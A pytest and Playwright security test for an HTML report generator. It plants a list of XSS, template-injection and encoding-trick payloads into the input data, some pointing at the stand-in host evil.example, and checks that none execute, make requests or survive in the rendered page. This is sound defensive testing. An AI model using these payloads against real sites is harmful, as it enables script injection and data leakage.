"""Attacks in every text of the example, seen in the browser: 0 get through."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable, Collection, Sequence

HARM = "document.documentElement.dataset.harmed=1"
PAYLOADS = (
    f"<script>{HARM}</script>",
    f"<img src=x onerror={HARM}>",
    f'"><svg/onload={HARM}>',
    f"'><details open ontoggle={HARM}>",
    f"' autofocus onfocus='{HARM}",
    f'" style="background:url(//evil.example/a)" onmouseover="{HARM}',
    f"</style><script>{HARM}</script>",
    f"</script><script>{HARM}</script>",
    f"</title></textarea></noscript></svg></template><script>{HARM}</script>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HARM}>",
    f"<!--><script>{HARM}</script>-->",
    "<meta http-equiv=refresh content='0;url=//evil.example/m'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<form action=//evil.example/f><button autofocus>x</button></form>",
    "<style>@import '//evil.example/s.css';</style>",
    "![x](https://evil.example/pixel.png)",
    f"[x](javascript:{HARM})",
    f"[x](JaVaScRiPt&colon;{HARM})",
    f"[x](data:text/html,<script>{HARM}</script>)",
    f"javascript:{HARM}",
    f"java\\tscript:{HARM}",
    f"vbscript:{HARM}",
    "{{ 7 * 191 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*191}#{7*191}<%= 7*191 %>",
    f"&#60;script&#62;{HARM}&#60;/script&#62;",
    f"\\x3cscript\\x3e{HARM}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{HARM}\uff1c/script\uff1e",
    "]]><![CDATA[<script>1</script>",
    "\u202eevil\u2028line\u2029end",
)
# What these keys hold is no free text, and a value that can't be read is not shown at all.
_CLOSED = frozenset({"id", "currency", "language", "format", "period", "time_zone", "confidential"})


@pytest.fixture(scope="module")
def hostile(
    norders: Path,
    tmp_path_factory: pytest.TempPathFactory,
    plant: Callable[[Path, Sequence[str], Collection[str]], int],
) -> Path:
    folder = Path(shutil.copytree(norders, tmp_path_factory.mktemp("hostile") / "norders"))
    count = plant(folder, PAYLOADS, _CLOSED)
    for file in sorted(folder.rglob("*.md")):
        file.write_text("\n\n".join((file.read_text("utf-8"), *PAYLOADS[:-1])), "utf-8")
        count += len(PAYLOADS) - 1
    assert count > 700
    return folder


def refuse(dialog: Any, dialogs: list[str]) -> None:  # noqa: ANN401  # Playwright's own.
    """Note a dialog that a page has opened, and go on."""
    dialogs.append(dialog.message)
    dialog.dismiss()


LOOK = """() => ({
    harmed: document.documentElement.dataset.harmed ?? null,
    scripts: document.scripts.length,
    styles: document.querySelectorAll('style, link[rel=stylesheet]').length,
    strangers: [...document.querySelectorAll('img, iframe, object, embed, base, math, template, video')]
        .map((each) => each.outerHTML.slice(0, 200)),
    refreshing: document.querySelectorAll('meta[http-equiv=refresh]').length,
    actions: document.querySelectorAll('[action], [formaction]').length,
    handlers: [...document.querySelectorAll('*')].flatMap((each) => [...each.attributes])
        .filter((each) => each.name.startsWith('on') || ['style', 'srcdoc', 'autofocus'].includes(each.name))
        .map((each) => `${each.name}=${each.value}`),
    links: [...document.querySelectorAll('[href], [src]')]
        .map((each) => each.getAttribute('href') ?? each.getAttribute('src'))
        .filter((each) => !/^(#|https?:|mailto:|data:,$)/.test(each)),
})"""
CLEAN: dict[str, object] = {
    "harmed": None, "scripts": 1, "styles": 1, "strangers": [], "refreshing": 0, "actions": 0,
    "handlers": [], "links": [],
}  # fmt: skip


@pytest.mark.parametrize("type_", ["board", "report"])
@pytest.mark.parametrize("look", ["light", "without-script"])
def test_no_attack_gets_through(
    look: str,
    type_: str,
    hostile: Path,
    write_page: Callable[..., Path],
    viewer: Any,  # noqa: ANN401
) -> None:
    file = write_page(hostile, "--type", type_, "--with", "budget", "--with", "accounts")
    source = file.read_text("utf-8")
    # Enough of them are on the page, as text.
    assert source.count("documentElement.dataset.harmed=1") > (150 if type_ == "board" else 3)
    assert "7 * 191" in source
    assert not re.search(r"\b1337\b", source)
    with viewer.open(file, look) as opened:
        dialogs: list[str] = []
        opened.page.on("dialog", lambda each: refuse(each, dialogs))
        assert opened.page.evaluate(LOOK) == CLEAN
        # Nothing wakes up when everything is opened, pointed at and focused.
        opened.page.evaluate(
            """() => {
                for (const each of document.querySelectorAll('details')) each.open = true;
                for (const each of document.querySelectorAll('*'))
                    for (const name of ['mouseover', 'focus', 'toggle', 'load', 'error'])
                        each.dispatchEvent(new Event(name));
            }"""
        )
        if look == "light" and type_ == "board":
            opened.page.evaluate(
                "for (const each of document.querySelectorAll('details.box')) each.open = false"
            )
            opened.page.locator("details.box > summary").nth(30).click()
            for _ in range(60):
                opened.page.keyboard.press("ArrowRight")
        opened.page.wait_for_timeout(200)
        assert opened.page.evaluate(LOOK) == CLEAN
        assert dialogs == []
        assert opened.requests == []
        assert opened.complaints == []


def test_the_look_would_see_harm(hostile: Path, write_page: Callable[..., Path], viewer: Any) -> None:  # noqa: ANN401
    file = write_page(hostile, "--type", "report", "--with", "budget", "--with", "accounts")
    with viewer.open(file) as opened:
        opened.page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p onclick=1><img src=x>')")
        seen = opened.page.evaluate(LOOK)
        assert seen["handlers"] == ["onclick=1"]
        assert seen["links"] == ["x"]
        assert len(seen["strangers"]) == 1
